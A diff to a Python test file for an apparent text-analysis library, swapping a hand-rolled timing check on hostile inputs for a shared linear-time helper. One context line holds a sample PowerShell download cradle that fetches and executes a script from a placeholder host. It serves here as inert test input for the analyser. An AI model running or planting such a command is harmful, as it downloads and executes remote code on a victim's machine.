@@ -20,6 +20,7 @@ from commodore.readers.layers.analysis import analysed
 from commodore.readers.layers.languages import language_of, languages
 from commodore.readers.layers.texts import decoded
 from scout.bounded import pattern_error
+from tests.pattern_steps import linear
 
 PLAIN = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://stage.example.invalid/a.txt') # inert"
 
@@ -251,17 +252,9 @@ def test_a_bomb_is_bounded_and_said(monkeypatch):
     ],
 )
 def test_hostile_text_costs_linear_time(text):
-    """Each took minutes with a pattern that begins anew at every character; the limit of the run is generous."""
-    small, large = (steps(text[: len(text) // 4]), steps(text))
-    assert large < 40 * small + 2.0
-
-
-def steps(text: str) -> float:
-    import time
-
-    start = time.process_time()
+    """Each took minutes with a pattern that begins anew at every character; read as a whole, it only has to end."""
+    linear(lambda n: analysed(text[:n], ""))
     analysed(text, "")
-    return time.process_time() - start
 
 
 def test_a_long_script_is_cut_and_says_so(monkeypatch):
